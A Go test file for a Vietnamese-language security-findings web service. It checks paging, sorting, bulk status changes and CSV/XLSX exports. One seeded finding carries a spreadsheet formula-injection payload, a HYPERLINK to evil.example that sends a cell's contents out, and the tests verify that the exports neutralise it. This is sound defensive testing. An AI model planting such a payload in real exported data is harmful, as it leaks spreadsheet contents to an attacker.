package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"vigil/internal/findings"
	"vigil/internal/store"
)

// addFindings files n more findings on B's host, one of them with a title
// an attacker chose to run as a spreadsheet formula.
func addFindings(t *testing.T, w *world, n int) {
	t.Helper()
	ctx := context.Background()
	err := w.db.InTx(ctx, func(tx *store.Tx) error {
		for i := range n {
			title := fmt.Sprintf("Lỗ hổng %d", i)
			sev := findings.SeverityMedium
			if i == 0 {
				title, sev = `=HYPERLINK("http://evil.example/?"&A1,"bấm")`, findings.SeverityCritical
			}
			if _, _, err := findings.Record(ctx, tx, findings.Observation{HostID: w.hostIDs["B"], Kind: findings.KindVulnerability,
				Key: fmt.Sprintf("CVE-2023-%05d", i), Title: title, Severity: sev, SeenAt: time.Now(),
				Evidence: findings.VulnerabilityEvidence{CVE: fmt.Sprintf("CVE-2023-%05d", i)}}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestFindingsAPIPagesSortsAndExports walks the findings list both ways
// with its true total, sorts it, and exports it as CSV and XLSX with the
// formula cell neutralised.
func TestFindingsAPIPagesSortsAndExports(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		addFindings(t, w, 4) // with the malware finding: 5 on B
		r := w.call("officerB", "GET", "/api/v1/findings?limit=2&sort=severity&order=desc", nil)
		expect(t, r, 200, "first page")
		m := r.json(t)
		items := r.items(t)
		if m["total"] != float64(5) || len(items) != 2 || m["prev"] != "" || m["next"] == "" {
			t.Fatalf("first page: total %v, %d items, prev %q next %q", m["total"], len(items), m["prev"], m["next"])
		}
		if items[0]["severity"] != "critical" || items[1]["severity"] != "high" {
			t.Errorf("most severe first: %v, %v", items[0]["severity"], items[1]["severity"])
		}
		next := m["next"].(string)
		r = w.call("officerB", "GET", "/api/v1/findings?limit=2&sort=severity&order=desc&cursor="+url.QueryEscape(next), nil)
		m2 := r.json(t)
		if len(r.items(t)) != 2 || m2["offset"] != float64(2) || m2["prev"] == "" {
			t.Fatalf("second page: %s", r.Body)
		}
		r = w.call("officerB", "GET", "/api/v1/findings?limit=2&sort=severity&order=desc&cursor="+url.QueryEscape(m2["prev"].(string)), nil)
		if back := r.items(t); len(back) != 2 || back[0]["id"] != items[0]["id"] {
			t.Errorf("previous page is not the first: %s", r.Body)
		}
		expect(t, w.call("officerB", "GET", "/api/v1/findings?sort=evidence", nil), 400, "unknown sort")
		expect(t, w.call("officerB", "GET", "/api/v1/findings?format=pdf", nil), 400, "unknown format")
		// Officer A sees none of B's.
		if m := w.call("officerA", "GET", "/api/v1/findings", nil).json(t); m["total"] != float64(0) {
			t.Errorf("officer A counts %v findings of B", m["total"])
		}

		// CSV: a byte-order mark, Vietnamese headers, every row, the
		// formula cell as text.
		r = w.call("officerB", "GET", "/api/v1/findings?format=csv&kind=vulnerability&sort=title", nil)
		expect(t, r, 200, "CSV export")
		if !bytes.HasPrefix(r.Body, []byte("\ufeff")) {
			t.Errorf("CSV has no byte-order mark")
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 5 || recs[0][1] != "Mức độ" {
			t.Fatalf("CSV: %d records, header %v", len(recs), recs[0])
		}
		var formula string
		for _, rec := range recs[1:] {
			if strings.Contains(rec[3], "HYPERLINK") {
				formula = rec[3]
			}
		}
		if !strings.HasPrefix(formula, "'=") {
			t.Errorf("formula cell written as %q", formula)
		}
		// English headers on request.
		if r = w.call("officerB", "GET", "/api/v1/findings?format=csv&lang=en", nil); !strings.Contains(string(r.Body), "Severity") {
			t.Errorf("English export header: %.200s", r.Body)
		}

		// XLSX: the same rows, no formula.
		r = w.call("officerB", "GET", "/api/v1/findings?format=xlsx", nil)
		expect(t, r, 200, "XLSX export")
		f, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, err := f.GetRows(f.GetSheetName(0))
		if err != nil || len(rows) != 6 {
			t.Fatalf("XLSX rows: %d, %v", len(rows), err)
		}
		for i := 2; i <= 6; i++ {
			if fm, _ := f.GetCellFormula(f.GetSheetName(0), fmt.Sprintf("D%d", i)); fm != "" {
				t.Errorf("XLSX D%d is a formula: %q", i, fm)
			}
		}
	})
}

// TestFindingsBulkIsAllOrNothing changes two findings at once; a batch
// with one finding the caller may not change changes none.
func TestFindingsBulkIsAllOrNothing(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		addFindings(t, w, 2)
		ids := []int64{}
		for _, it := range w.call("officerB", "GET", "/api/v1/findings?kind=vulnerability", nil).items(t) {
			ids = append(ids, int64(it["id"].(float64)))
		}
		r := w.call("officerB", "POST", "/api/v1/findings/bulk", map[string]any{"ids": ids, "status": "resolved"})
		expect(t, r, 400, "closing without a note")
		if m := r.json(t)["error"].(map[string]any); m["field"] != "note" {
			t.Errorf("error names %v, want note", m["field"])
		}
		r = w.call("officerB", "POST", "/api/v1/findings/bulk", map[string]any{"ids": append(ids, 999999), "status": "in_progress"})
		expect(t, r, 404, "a batch with an unknown finding")
		if n := w.call("officerB", "GET", "/api/v1/findings?status=in_progress", nil).json(t)["total"]; n != float64(0) {
			t.Errorf("a refused batch changed %v findings", n)
		}
		r = w.call("officerB", "POST", "/api/v1/findings/bulk", map[string]any{"ids": ids, "status": "resolved", "note": "Đã cài bản vá tháng 01"})
		expect(t, r, 200, "bulk resolve")
		if n := w.call("officerB", "GET", "/api/v1/findings?status=resolved", nil).json(t)["total"]; n != float64(2) {
			t.Errorf("%v resolved, want 2", n)
		}
	})
}

// TestFindingsPage renders the queue for an officer: the total, the
// default order and filter, and a bulk change that fails keeps its input
// and says why beside the field.
func TestFindingsPage(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		addFindings(t, w, 3)
		r := w.call("officerB", "GET", "/findings", nil)
		expect(t, r, 200, "findings page")
		body := string(r.Body)
		for _, want := range []string{"1–4 trên tổng 4", "Nghiêm trọng", `id="findings-table"`, "Xuất", "format=xlsx"} {
			if !strings.Contains(body, want) {
				t.Errorf("page lacks %q", want)
			}
		}
		if strings.Contains(body, "removed") || strings.Contains(body, "in_progress<") {
			t.Errorf("page shows a raw status code")
		}
		// Page two of one-per-page has both neighbours.
		r = w.call("officerB", "GET", "/findings?status=active&sort=severity&order=desc&limit=1&offset=1", nil)
		if body := string(r.Body); !strings.Contains(body, `rel="prev"`) || !strings.Contains(body, `rel="next"`) || !strings.Contains(body, "2–2 trên tổng 4") {
			t.Errorf("second page lacks its neighbours or range")
		}
		// Officer A's queue is empty, and says so.
		if body := string(w.call("officerA", "GET", "/findings", nil).Body); !strings.Contains(body, "Không có phát hiện nào") {
			t.Errorf("officer A's empty queue does not say so")
		}
		// A bulk close without a note comes back with the input kept.
		form := url.Values{"id": {itoa(w.findingIDs["B"])}, "status": {"resolved"}, "owner": {"officerb@test.vigil"}, "due": {"31/01/2027"}, "back": {"/findings?status=active"}}
		req, _ := http.NewRequest("POST", w.srv.URL+"/findings", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Authorization", "Bearer "+w.tokens["officerB"])
		resp, err := w.srv.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var buf bytes.Buffer
		buf.ReadFrom(resp.Body)
		if resp.StatusCode != 400 || !strings.Contains(buf.String(), `value="31/01/2027"`) || !strings.Contains(buf.String(), `class="field-error"`) {
			t.Errorf("bulk form error: %d, input kept %v", resp.StatusCode, strings.Contains(buf.String(), "31/01/2027"))
		}
	})
}
